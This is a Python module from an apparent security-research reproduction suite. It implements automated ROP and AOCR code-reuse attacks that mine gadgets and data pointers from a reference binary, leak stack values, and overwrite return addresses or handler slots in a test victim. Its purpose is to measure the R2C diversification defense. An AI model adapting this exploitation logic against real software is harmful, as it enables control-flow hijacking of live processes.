"""Mined code-reuse attacks: payloads synthesized by the gadget miner.

The hand-written probes in :mod:`repro.attacks.rop` / :mod:`~repro.attacks.aocr`
encode the victim's geometry by name (which function to return into, which
global holds the handler pointer).  These two scenarios replace that
hand knowledge with :mod:`repro.analysis.gadgets` output — the systematic
attacker the ROADMAP's adversary zoo asks for:

* **mined-rop** — the miner censuses the attacker's *own copy* of the
  binary, synthesizes an emit-output ROP chain (gadget sequence + exact
  stack layout) from the semantic summaries, then derandomizes the text
  base from one leaked return address (same disclosure the hand-written
  ROP uses) and writes the materialized chain over the stack.  The only
  non-mined knowledge is the vulnerable call path (``hook_chain``) — the
  Section 3 threat model's given.
* **mined-aocr** — the miner extracts the data-section pointer topology
  (:func:`~repro.analysis.gadgets.mine_data_pointers`): which slots hold
  code pointers, which one feeds the indirect call, which argument slot
  rides along, which dormant capability is worth stealing, and which
  globals are *anchors* (their addresses appear in text, so a leaked data
  pointer can be identified against them).  At runtime it profiles the
  stack, chases a heap pointer to a data-section pointer (as AOCR does),
  then tries each anchor hypothesis until the mined slots validate —
  no named globals anywhere.

Against an undiversified victim both succeed deterministically, matching
their hand-written counterparts in Table 3.  Under R2C the mined
knowledge is exactly as wrong as the hand-written kind: chain offsets
miss (booby traps / unmapped text), stack layouts misalign, anchor
hypotheses fail to validate, and BTDPs detonate during the heap walk.
"""

from __future__ import annotations

from repro.analysis.gadgets import (
    EmitOutput,
    mine_data_pointers,
    synthesize,
    take_census,
)
from repro.attacks.clustering import classify_word, cluster_pointers
from repro.attacks.scenario import AttackAborted, AttackResult, VictimSession, run_attack
from repro.attacks.surface import AttackerView
from repro.workloads.victim import ATTACK_ARG, SUCCESS_TAG, VictimLayoutInfo

WORD = 8
#: Words of a leaked heap object the attacker inspects (as aocr.py).
OBJECT_WINDOW = 4
#: Heap pointers the attacker is willing to chase before giving up.
MAX_CHASES = 3


def make_mined_rop_hook(layout: VictimLayoutInfo = VictimLayoutInfo()):
    """The raw attack function, reusable outside run_attack (e.g. by an
    N-variant ``VictimSession.probe_ex``)."""

    def hook(view: AttackerView) -> None:
        reference = view.reference

        # Offline phase (against the attacker's own copy): census every
        # gadget, synthesize a chain that makes the victim emit the
        # attack token.  No victim-specific knowledge is consulted.
        census = take_census(reference.binary)
        chain = synthesize(census, EmitOutput(SUCCESS_TAG | ATTACK_ARG))
        if chain is None:
            raise AttackAborted("miner synthesized no emit-output chain")

        # Online phase: derandomize the text base from one leaked return
        # address (the same single disclosure classic ROP relies on).
        frames = reference.stack_map_from_hook(layout.hook_chain)
        inner = frames[0]
        ra_addr = view.rsp + inner.ra_slot
        leaked_ra = view.read_word(ra_addr)
        if classify_word(leaked_ra) != "image":
            raise AttackAborted("value at expected RA slot is not a code pointer")
        site = reference._find_callsite(layout.hook_chain[1], layout.hook_chain[0])
        if site is None:
            raise AttackAborted("no call site record in reference")
        text_base = leaked_ra - site.ret_offset

        # Deploy: the materialized chain replaces the return address and
        # everything above it — frame words, loader slots, next-gadget
        # links, exactly as the synthesizer laid them out.
        for index, word in enumerate(chain.materialize(text_base)):
            view.write_word(ra_addr + index * WORD, word)

    return hook


def mined_rop_attack(session: VictimSession, *, attacker_seed: int = 0) -> AttackResult:
    hook = make_mined_rop_hook(session.layout)
    return run_attack(session, hook, "mined-rop", attacker_seed=attacker_seed)


def make_mined_aocr_hook(layout=None):
    """The raw attack function, reusable outside run_attack (e.g. by an
    N-variant ``VictimSession.probe_ex``).

    ``layout`` is accepted for signature uniformity with the other hooks
    and ignored: every offset comes from the miner.
    """
    del layout

    def hook(view: AttackerView) -> None:
        reference = view.reference

        # Offline phase: mine the data-section pointer topology from the
        # attacker's copy — dispatch slot, argument slot, dormant code
        # pointers, and the anchor globals a leaked pointer can be
        # identified against.
        data_map = mine_data_pointers(reference.binary)
        if data_map.handler_slot is None or not data_map.dormant_slots:
            raise AttackAborted("miner found no dispatch surface in reference")
        dormant_offset = data_map.dormant_slots[0][0]

        # --- Stage 1: profile the stack, cluster by value range -----------
        leak = view.leak_stack()
        clusters = cluster_pointers(leak)
        heap_ptrs = [value for _, value in clusters.heap]
        if not heap_ptrs:
            raise AttackAborted("no heap-pointer cluster on the stack")

        # --- Stage 2: follow heap pointers to find a data-section pointer -
        data_ptr = None
        candidates = view.rng.shuffled(heap_ptrs)
        for heap_ptr in candidates[:MAX_CHASES]:
            # Dereference: a BTDP detonates right here.
            for index in range(OBJECT_WINDOW):
                word = view.read_word(heap_ptr + index * WORD)
                if classify_word(word) == "image":
                    data_ptr = word
                    break
            if data_ptr is not None:
                break
        if data_ptr is None:
            raise AttackAborted("no data-section pointer reachable from heap")

        # --- Stage 3: identify the pointer against the mined anchors ------
        # The leaked pointer targets *some* text-anchored global.  For
        # each anchor hypothesis, the mined dispatch and dormant slots
        # must both hold code pointers — the self-validation that makes
        # the payload anchor-oblivious.  Under R2C the victim's layout
        # matches no hypothesis (or a decoy fails the read).
        for anchor in data_map.anchor_offsets:
            data_base = data_ptr - anchor
            handler_now = view.read_word(data_base + data_map.handler_slot)
            stolen = view.read_word(data_base + dormant_offset)
            if classify_word(handler_now) != "image" or classify_word(stolen) != "image":
                continue
            view.write_word(data_base + data_map.handler_slot, stolen)
            if data_map.param_slot is not None:
                view.write_word(data_base + data_map.param_slot, ATTACK_ARG)
            return
        raise AttackAborted("no anchor hypothesis validated against the victim")

    return hook


def mined_aocr_attack(session: VictimSession, *, attacker_seed: int = 0) -> AttackResult:
    hook = make_mined_aocr_hook(session.layout)
    return run_attack(session, hook, "mined-aocr", attacker_seed=attacker_seed)
